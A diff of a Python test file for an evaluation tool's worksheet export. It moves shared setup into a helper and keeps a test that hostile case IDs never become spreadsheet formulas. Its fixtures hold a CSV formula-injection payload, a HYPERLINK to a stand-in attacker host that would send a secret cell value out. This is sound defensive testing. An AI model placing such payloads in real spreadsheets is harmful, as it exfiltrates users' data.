@@ -462,18 +462,25 @@ def formula(cell: str) -> bool:
     return cell[:1] in ("\t", "\r") or (first != "" and first in "=+-@\uff1d\uff0b\uff0d\uff20")
 
 
-def test_hostile_case_ids_are_never_formulas_and_still_join(tmp_path):
-    rows = [{"case_id": case_id, "Resp": f"=HYPERLINK(\"http://e.vil/?\"&B2) {SECRET} {i}",
-             "Truth": f"+{SECRET} {i}"} for i, case_id in enumerate(HOSTILE_IDS)]
+def drawn_sheet(tmp_path, rows):
+    """A run of the fake judge over ``rows`` (drug_monograph_similarity cases) and its
+    random worksheet of every case, drawn with --show-text: (results, sheet folder, cases)."""
     cases = write_jsonl(tmp_path / "cases.jsonl", rows)
     results = tmp_path / "results.jsonl"
     ran = invoke("run", "-r", "drug_monograph_similarity", "-m", "fake", "-i", cases, "-o",
                  results, "--no-progress")
     assert ran.exit_code == 0, ran.output
     out = tmp_path / "sheet"
-    done = invoke("review", results, "--out", out, "--design", "random", "--n",
-                  len(HOSTILE_IDS), "--show-text", "--cases", cases)
+    done = invoke("review", results, "--out", out, "--design", "random", "--n", len(rows),
+                  "--show-text", "--cases", cases)
     assert done.exit_code == 0, done.output
+    return results, out, cases
+
+
+def test_hostile_case_ids_are_never_formulas_and_still_join(tmp_path):
+    rows = [{"case_id": case_id, "Resp": f"=HYPERLINK(\"http://e.vil/?\"&B2) {SECRET} {i}",
+             "Truth": f"+{SECRET} {i}"} for i, case_id in enumerate(HOSTILE_IDS)]
+    results, out, _ = drawn_sheet(tmp_path, rows)
     with open(out / "review.csv", newline="", encoding="utf-8-sig") as handle:
         table = list(csv.reader(handle))
     assert len(table) == len(HOSTILE_IDS) + 1
@@ -570,15 +577,7 @@ def accented_run(tmp_path):
     and ``’``, and its random worksheet drawn with --show-text (every case)."""
     rows = [{"case_id": case_id, "Resp": f"{SECRET}\nage ≥ 18 years, 38.5 °C, patient’s {i}",
              "Truth": f"dose ≥ {i} mg"} for i, case_id in enumerate(ACCENTED_IDS)]
-    cases = write_jsonl(tmp_path / "cases.jsonl", rows)
-    results = tmp_path / "results.jsonl"
-    ran = invoke("run", "-r", "drug_monograph_similarity", "-m", "fake", "-i", cases, "-o",
-                 results, "--no-progress")
-    assert ran.exit_code == 0, ran.output
-    out = tmp_path / "sheet"
-    done = invoke("review", results, "--out", out, "--design", "random", "--n",
-                  len(ACCENTED_IDS), "--show-text", "--cases", cases)
-    assert done.exit_code == 0, done.output
+    results, out, _ = drawn_sheet(tmp_path, rows)
     return results, out
 
 
